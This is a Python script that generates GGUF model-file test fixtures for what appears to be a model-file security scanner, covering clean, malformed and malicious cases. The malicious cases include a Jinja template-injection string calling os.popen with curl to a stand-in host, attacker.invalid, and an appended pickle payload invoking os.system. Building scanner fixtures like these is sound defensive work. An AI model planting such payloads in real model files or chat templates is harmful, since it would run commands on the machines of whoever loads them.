#!/usr/bin/python3
"""Writes the GGUF test files byte by byte (Debian has no gguf library).

Layout (ggml docs/gguf.md, ggml/src/gguf.cpp): b"GGUF", version u32, tensor_count,
metadata_kv_count, the key-value pairs (key string, value type u32, value), the tensor infos
(name string, n_dims u32, dims, ggml type u32, data offset u64), zero padding to the
alignment (general.alignment, default 32), then each tensor's data padded to the alignment.
Version 1 writes counts, string lengths, array lengths and dimensions as u32, versions 2 and
3 as u64. Version 3 files may be big-endian.

The chat templates come from ../../jinja/testdata/templates/*.jinja (clean, checked with jinja2's parser) and
../../jinja/testdata/templates/malicious/*.jinja. Nothing here renders a template: the malicious ones are only
stored. Their payloads name attacker.invalid, which can never resolve.

Run:  /usr/bin/python3 src/analyzers/gguf/testdata/make_gguf.py
It rewrites testdata/*.gguf, ../corpus/ and the GGUF files under tests/fixtures/.
"""

import os
import shutil
import struct

HERE = os.path.dirname(os.path.abspath(__file__))
# Shared with the Jinja analyzer, which owns the template rules.
TEMPLATES = os.path.join(HERE, "..", "..", "jinja", "testdata", "templates")
ROOT = os.path.abspath(os.path.join(HERE, "..", "..", "..", ".."))
CORPUS = os.path.join(HERE, "..", "corpus")
FIXTURES_CLEAN = os.path.join(ROOT, "tests", "fixtures", "clean", "gguf")
FIXTURES_MALICIOUS = os.path.join(ROOT, "tests", "fixtures", "malicious", "gguf")

# gguf_type
U8, I8, U16, I16, U32, I32, F32, BOOL, STRING, ARRAY, U64, I64, F64 = range(13)
SCALAR_FORMATS = {U8: "B", I8: "b", U16: "H", I16: "h", U32: "I", I32: "i", F32: "f",
                  BOOL: "B", U64: "Q", I64: "q", F64: "d"}
# ggml_type ids and (block size, bytes per block)
GGML_F32, GGML_F16, GGML_Q8_0 = 0, 1, 8
GGML_SIZES = {GGML_F32: (1, 4), GGML_F16: (1, 2), GGML_Q8_0: (32, 34)}


def template(name):
    with open(os.path.join(TEMPLATES, name), encoding="utf-8") as f:
        return f.read()


def malicious(name):
    return template(os.path.join("malicious", name))


class Writer:
    def __init__(self, version=3, big_endian=False):
        self.version = version
        self.order = ">" if big_endian else "<"
        self.out = bytearray()

    def raw(self, data):
        self.out += data

    def pack(self, fmt, value):
        self.out += struct.pack(self.order + fmt, value)

    def u32(self, value):
        self.pack("I", value)

    def u64(self, value):
        self.pack("Q", value)

    def count(self, value):
        """Counts and lengths: u32 in version 1, u64 later."""
        self.pack("I" if self.version == 1 else "Q", value)

    def string(self, text, declared=None):
        data = text.encode("utf-8") if isinstance(text, str) else text
        self.count(len(data) if declared is None else declared)
        self.raw(data)

    def value(self, vtype, value):
        if vtype == STRING:
            self.string(value)
        elif vtype == ARRAY:
            element_type, items = value
            self.u32(element_type)
            self.count(len(items))
            for item in items:
                self.value(element_type, item)
        else:
            self.pack(SCALAR_FORMATS[vtype], value)

    def kv(self, key, vtype, value):
        self.string(key)
        self.u32(vtype)
        self.value(vtype, value)


def tensor_bytes(ggml_type, dims):
    block, size = GGML_SIZES[ggml_type]
    elements = 1
    for d in dims:
        elements *= d
    return elements // block * size


def tensor_data(ggml_type, dims, seed):
    """Deterministic small values in the tensor's own encoding."""
    n = tensor_bytes(ggml_type, dims)
    if ggml_type == GGML_F32:
        count = n // 4
        return b"".join(struct.pack("<f", ((i * 7 + seed) % 17 - 8) / 16.0) for i in range(count))
    return bytes((i * 31 + seed) % 251 for i in range(n))


def pad(n, alignment):
    return (n + alignment - 1) // alignment * alignment


def build(kvs, tensors=(), version=3, big_endian=False, alignment=32, header=None,
          tensor_overrides=None, trailing=b""):
    """kvs: [(key, type, value)], tensors: [(name, dims, ggml_type)].

    `header` replaces (tensor_count, kv_count); `tensor_overrides` maps a tensor index to
    fields to write instead (n_dims, type, offset)."""
    w = Writer(version, big_endian)
    w.raw(b"GGUF")
    w.u32(version)
    tensor_count, kv_count = header if header else (len(tensors), len(kvs))
    w.count(tensor_count)
    w.count(kv_count)
    for key, vtype, value in kvs:
        w.kv(key, vtype, value)
    offsets, datas, offset = [], [], 0
    for index, (name, dims, gtype) in enumerate(tensors):
        data = tensor_data(gtype, dims, index) if gtype in GGML_SIZES else b""
        offsets.append(offset)
        datas.append(data)
        offset += pad(len(data), alignment)
    for index, (name, dims, gtype) in enumerate(tensors):
        override = (tensor_overrides or {}).get(index, {})
        w.string(name)
        w.u32(override.get("n_dims", len(dims)))
        for d in dims:
            w.count(d)
        w.u32(override.get("type", gtype))
        w.u64(override.get("offset", offsets[index]))
    w.raw(b"\0" * (pad(len(w.out), alignment) - len(w.out)))
    for data in datas:
        w.raw(data + b"\0" * (pad(len(data), alignment) - len(data)))
    w.raw(trailing)
    return bytes(w.out)


TOKENS = (["<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>", "<|start_header_id|>",
           "<|end_header_id|>", "<|eot_id|>", "{{", "{%", "__init__", "▁the", "▁a", "▁of",
           "▁to", "▁and", "ing", "er", "▁model", "▁file"]
          + ["<0x%02X>" % b for b in range(32)])


def llama_metadata(chat_template, extra=()):
    n_vocab = len(TOKENS)
    return [
        ("general.architecture", STRING, "llama"),
        ("general.name", STRING, "modelgate tiny llama"),
        ("general.file_type", U32, 7),
        ("general.quantization_version", U32, 2),
        ("llama.context_length", U32, 128),
        ("llama.embedding_length", U32, 32),
        ("llama.block_count", U32, 1),
        ("llama.feedforward_length", U32, 64),
        ("llama.rope.dimension_count", U32, 8),
        ("llama.attention.head_count", U32, 4),
        ("llama.attention.head_count_kv", U32, 2),
        ("llama.attention.layer_norm_rms_epsilon", F32, 1e-5),
        ("llama.rope.freq_base", F32, 500000.0),
        ("tokenizer.ggml.model", STRING, "gpt2"),
        ("tokenizer.ggml.pre", STRING, "llama-bpe"),
        ("tokenizer.ggml.tokens", ARRAY, (STRING, TOKENS)),
        ("tokenizer.ggml.token_type", ARRAY, (I32, [3 if t.startswith("<") else 1
                                                   for t in TOKENS])),
        ("tokenizer.ggml.scores", ARRAY, (F32, [-float(i) for i in range(n_vocab)])),
        ("tokenizer.ggml.merges", ARRAY, (STRING, ["▁ t", "h e", "▁t he", "i n", "in g"])),
        ("tokenizer.ggml.bos_token_id", U32, 1),
        ("tokenizer.ggml.eos_token_id", U32, 2),
        ("tokenizer.ggml.add_bos_token", BOOL, 1),
        ("tokenizer.chat_template", STRING, chat_template),
    ] + list(extra)


LLAMA_TENSORS = [
    ("token_embd.weight", [32, len(TOKENS)], GGML_Q8_0),
    ("blk.0.attn_norm.weight", [32], GGML_F32),
    ("blk.0.attn_q.weight", [32, 32], GGML_Q8_0),
    ("blk.0.ffn_up.weight", [32, 64], GGML_F16),
    ("output_norm.weight", [32], GGML_F32),
]

PICKLE_OS_SYSTEM = (b"\x80\x02" + b"cos\nsystem\n" + b"X\x0a\x00\x00\x00echo pwned"
                    + b"\x85" + b"R" + b".")


def all_types_metadata():
    return [
        ("general.architecture", STRING, "llama"),
        ("test.u8", U8, 200), ("test.i8", I8, -5), ("test.u16", U16, 60000),
        ("test.i16", I16, -300), ("test.u32", U32, 4000000000), ("test.i32", I32, -7),
        ("test.f32", F32, 0.5), ("test.bool", BOOL, 1), ("test.string", STRING, "text"),
        ("test.u64", U64, 2 ** 63), ("test.i64", I64, -(2 ** 40)), ("test.f64", F64, 0.25),
        ("test.array_u8", ARRAY, (U8, [1, 2, 3])),
        ("test.array_bool", ARRAY, (BOOL, [0, 1])),
        ("test.array_f64", ARRAY, (F64, [1.5, 2.5])),
        ("test.array_empty", ARRAY, (STRING, [])),
        ("test.nested", ARRAY, (ARRAY, [(I16, [1, -1]), (STRING, ["a", "b"]), (ARRAY, [])])),
        ("general.alignment", U32, 64),
    ]


def clean_files():
    files = {
        "llama3_v3.gguf": build(llama_metadata(template("llama3.jinja"), [
            ("tokenizer.chat_template.tool_use", STRING, template("qwen_tools.jinja"))]),
            LLAMA_TENSORS),
        "chatml_v2.gguf": build(llama_metadata(template("chatml.jinja")), LLAMA_TENSORS,
                                version=2),
        "mistral_v1.gguf": build(llama_metadata(template("mistral.jinja")), LLAMA_TENSORS[1:2],
                                 version=1),
        "gemma_big_endian.gguf": build(llama_metadata(template("gemma.jinja")), LLAMA_TENSORS,
                                       big_endian=True),
        "templates_v3.gguf": build(llama_metadata(template("phi3.jinja"), [
            ("tokenizer.chat_template.deepseek", STRING, template("deepseek.jinja")),
            ("tokenizer.chat_template.gemma", STRING, template("gemma.jinja"))])),
        "all_types.gguf": build(all_types_metadata(), LLAMA_TENSORS[1:2], alignment=64),
    }
    return files


def escape_files():
    chatml = template("chatml.jinja")
    files = {}
    for name in sorted(os.listdir(os.path.join(TEMPLATES, "malicious"))):
        stem = name[:-len(".jinja")]
        files["template_" + stem + ".gguf"] = build(llama_metadata(malicious(name)),
                                                    LLAMA_TENSORS[1:2])
    # The escape sits in a named template, and in a key that is not a template at all.
    files["named_template_escape.gguf"] = build(llama_metadata(chatml, [
        ("tokenizer.chat_template.rag", STRING, malicious("lipsum_globals.jinja"))]))
    files["description_escape.gguf"] = build(llama_metadata(chatml, [
        ("general.description", STRING, "{{ cycler.__init__.__globals__.os.popen('curl "
                                        "http://attacker.invalid/d').read() }}")]))
    # The key repeated: a reader keeping the first value sees a clean template.
    files["duplicate_template_key.gguf"] = build(llama_metadata(chatml, [
        ("tokenizer.chat_template", STRING, malicious("subclasses_popen.jinja"))]))
    files["escape_v1.gguf"] = build(llama_metadata(malicious("cycler_init.jinja")), version=1)
    files["escape_big_endian.gguf"] = build(llama_metadata(malicious("lipsum_globals.jinja")),
                                            LLAMA_TENSORS[1:2], big_endian=True)
    files["trailing_pickle.gguf"] = build(llama_metadata(chatml), LLAMA_TENSORS[1:2],
                                          trailing=PICKLE_OS_SYSTEM)
    return files


def malformed_files():
    chatml = template("chatml.jinja")
    small = llama_metadata(chatml)
    clean = build(small, LLAMA_TENSORS)
    files = {
        "huge_kv_count.gguf": build(small, header=(0, 2 ** 40)),
        "kv_count_beyond_eof.gguf": build(small[:2], header=(0, 50000)),
        "huge_tensor_count.gguf": build(small, header=(2 ** 40, len(small))),
        "unsupported_version.gguf": build(small, version=3)[:4] + struct.pack("<I", 4)
        + build(small, version=3)[8:],
        "truncated_in_metadata.gguf": clean[:400],
        "truncated_in_template.gguf": clean[:clean.find(b"{% for message") + 40],
        "bad_alignment.gguf": build(small + [("general.alignment", U32, 48)], LLAMA_TENSORS),
        "alignment_not_u32.gguf": build(small + [("general.alignment", U64, 32)],
                                        LLAMA_TENSORS),
        "tensor_out_of_bounds.gguf": build(small, LLAMA_TENSORS,
                                           tensor_overrides={2: {"offset": 2 ** 20}}),
        "tensor_offset_overflow.gguf": build(small, LLAMA_TENSORS,
                                             tensor_overrides={0: {"offset": 2 ** 64 - 32}}),
        "tensor_misaligned.gguf": build(small, LLAMA_TENSORS,
                                        tensor_overrides={1: {"offset": 1100}}),
        "unknown_tensor_type.gguf": build(small, LLAMA_TENSORS, tensor_overrides={4: {"type": 99}}),
        "too_many_dims.gguf": build(small, LLAMA_TENSORS, tensor_overrides={0: {"n_dims": 7}}),
        "deep_nested_array.gguf": build([("general.architecture", STRING, "llama"),
                                         ("test.deep", ARRAY, (ARRAY, [(ARRAY, [(ARRAY, [
                                             (ARRAY, [(ARRAY, [(U8, [1])])])])])]))]),
    }
    # More strings with '{{' than are kept for judgement, then two chat templates past the cap.
    files["many_template_strings.gguf"] = build([
        ("general.architecture", STRING, "llama"),
        ("test.snippets", ARRAY, (STRING, ["{{"] * 4100)),
        ("tokenizer.chat_template", ARRAY, (STRING, [chatml, chatml]))])
    # A value type GGUF does not define (13): nothing after it can be located.
    w = Writer()
    w.raw(b"GGUF")
    w.u32(3)
    w.count(0)
    w.count(2)
    w.string("general.architecture")
    w.u32(13)
    w.raw(b"llama")
    files["unknown_value_type.gguf"] = bytes(w.out)
    # A string length far beyond the end of the file.
    w = Writer()
    w.raw(b"GGUF")
    w.u32(3)
    w.count(0)
    w.count(2)
    w.kv("general.architecture", STRING, "llama")
    w.string("tokenizer.chat_template")
    w.u32(STRING)
    w.string("{% for m in messages %}", declared=100000)
    files["string_beyond_eof.gguf"] = bytes(w.out)
    # An array whose count cannot fit in the file (a loader that reserves first allocates it).
    w = Writer()
    w.raw(b"GGUF")
    w.u32(3)
    w.count(0)
    w.count(1)
    w.string("tokenizer.ggml.tokens")
    w.u32(ARRAY)
    w.u32(STRING)
    w.count(2 ** 25)
    w.string("a")
    files["array_count_beyond_eof.gguf"] = bytes(w.out)
    return files


def write(folder, files):
    os.makedirs(folder, exist_ok=True)
    for name, data in files.items():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)


def main():
    clean, escapes, malformed = clean_files(), escape_files(), malformed_files()
    for folder in (HERE, CORPUS):
        for old in os.listdir(folder):
            if old.endswith(".gguf"):
                os.remove(os.path.join(folder, old))
    write(HERE, {**clean, **escapes, **malformed})
    write(CORPUS, {**clean, **escapes, **malformed})
    for folder in (FIXTURES_CLEAN, FIXTURES_MALICIOUS):
        shutil.rmtree(folder, ignore_errors=True)
    write(FIXTURES_CLEAN, {n: clean[n] for n in
                           ("llama3_v3.gguf", "chatml_v2.gguf", "mistral_v1.gguf",
                            "gemma_big_endian.gguf", "templates_v3.gguf")})
    write(FIXTURES_MALICIOUS, {n: d for n, d in escapes.items()
                               if n in ("template_subclasses_popen.gguf",
                                        "template_lipsum_globals.gguf",
                                        "template_attr_filter_hex.gguf",
                                        "template_concat_join.gguf",
                                        "named_template_escape.gguf",
                                        "duplicate_template_key.gguf",
                                        "trailing_pickle.gguf")})
    write(FIXTURES_MALICIOUS, {n: malformed[n] for n in
                               ("huge_kv_count.gguf", "string_beyond_eof.gguf",
                                "tensor_out_of_bounds.gguf", "truncated_in_template.gguf")})
    print(len(clean) + len(escapes) + len(malformed), "files")


if __name__ == "__main__":
    main()
